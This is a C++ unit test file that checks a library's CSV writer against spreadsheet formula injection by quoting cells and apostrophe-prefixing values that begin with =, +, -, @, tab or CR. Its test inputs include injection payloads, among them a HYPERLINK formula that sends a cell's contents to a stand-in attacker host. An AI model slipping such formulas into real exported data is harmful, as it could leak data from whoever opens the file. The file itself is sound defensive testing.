// CSV injection (issue 17): every CSV annexa writes goes through CsvField,
// which quotes per RFC 4180 and prefixes a cell a spreadsheet would read as
// a formula (leading '=', '+', '-', '@', tab or CR: OWASP's list) with an
// apostrophe; a whole cell that is a plain decimal number stays a number.
// Every expected byte below was written out by hand.
#include <catch2/catch.hpp>

#include "audit/coverage.h"
#include "batch/batch_summary.h"
#include "core/text.h"

using namespace annexa;

TEST_CASE("csv: formula-like values are quoted and prefixed with an apostrophe", "[csv]") {
  CHECK(CsvField("=1+1") == "\"'=1+1\"");
  CHECK(CsvField("=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")") ==
        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")\"");
  CHECK(CsvField("+44 161 000 0000") == "\"'+44 161 000 0000\"");
  CHECK(CsvField("-1+2") == "\"'-1+2\"");
  CHECK(CsvField("-") == "\"'-\"");
  CHECK(CsvField("-2e3") == "\"'-2e3\"");
  CHECK(CsvField("-.5") == "\"'-.5\"");
  CHECK(CsvField("@SUM(1;2)") == "\"'@SUM(1;2)\"");
  CHECK(CsvField("\t=1+1") == "\"'\t=1+1\"");
  CHECK(CsvField("\r=1+1") == "\"'\r=1+1\"");
  CHECK(CsvField("=a,b") == "\"'=a,b\"");
}

TEST_CASE("csv: plain values, and plain negative numbers, are unchanged", "[csv]") {
  CHECK(CsvField("") == "");
  CHECK(CsvField("C1") == "C1");
  CHECK(CsvField("a=1") == "a=1");
  CHECK(CsvField("'=1+1") == "'=1+1");  // already text to a spreadsheet
  CHECK(CsvField(" =1+1") == " =1+1");  // a leading space: LibreOffice and Excel read text
  CHECK(CsvField("-1") == "-1");        // the age of an unborn child
  CHECK(CsvField("-0.5") == "-0.5");
  CHECK(CsvField("12") == "12");
  CHECK(CsvField("a,b") == "\"a,b\"");
  CHECK(CsvField("say \"hi\"") == "\"say \"\"hi\"\"\"");
  CHECK(CsvField("two\nlines") == "\"two\nlines\"");
  CHECK(CsvFormulaLike("=1") == true);
  CHECK(CsvFormulaLike("-1") == false);
  CHECK(CsvFormulaLike("-1.") == true);  // not a plain number: "1." has no digits after the point
}

TEST_CASE("csv: AppendCsvField neutralises too, the last field ending CRLF", "[csv]") {
  std::string out;
  AppendCsvField(&out, "@cmd");
  AppendCsvField(&out, "-1", true);
  CHECK(out == "\"'@cmd\",-1\r\n");
}

TEST_CASE("csv: the audit coverage CSV neutralises a team named like a formula", "[csv]") {
  audit::Coverage c;
  audit::CoverageRow team;
  team.value = "=HYPERLINK(\"http://x/\";\"Team A\")";
  team.audits = 2;
  team.children_audited = 1;
  team.in_cohort = 4;
  c.by_team.push_back(team);
  // 1 of 4 = 25.0%.
  CHECK(audit::CoverageCsv(c) ==
        "table,value,audits,children_audited,in_cohort,percent_covered\r\n"
        "team,\"'=HYPERLINK(\"\"http://x/\"\";\"\"Team A\"\")\",2,1,4,25.0\r\n");
}

TEST_CASE("csv: the batch summary CSV neutralises a config path and a council name", "[csv]") {
  batch::Council c;
  c.config = "+cmd.yaml";
  c.status = "ok";
  c.exit_code = 0;
  batch::CouncilReport r;
  r.council = "@Tinyshire";
  r.la_code = "001";
  r.rows.assign(11, 0);
  r.rows[0] = 3;
  r.errors = 0;
  r.warnings = 2;
  c.report = r;
  CHECK(batch::SummaryCsv({c}) ==
        "council_config,council,la_code,status,exit_code,seconds,list_1,list_2,list_3,list_4,list_5,list_6,list_7,"
        "list_8,list_9,list_10,list_11,errors,warnings,completeness_percent,reason\r\n"
        "\"'+cmd.yaml\",\"'@Tinyshire\",001,ok,0,,3,0,0,0,0,0,0,0,0,0,0,0,2,,\r\n");
}
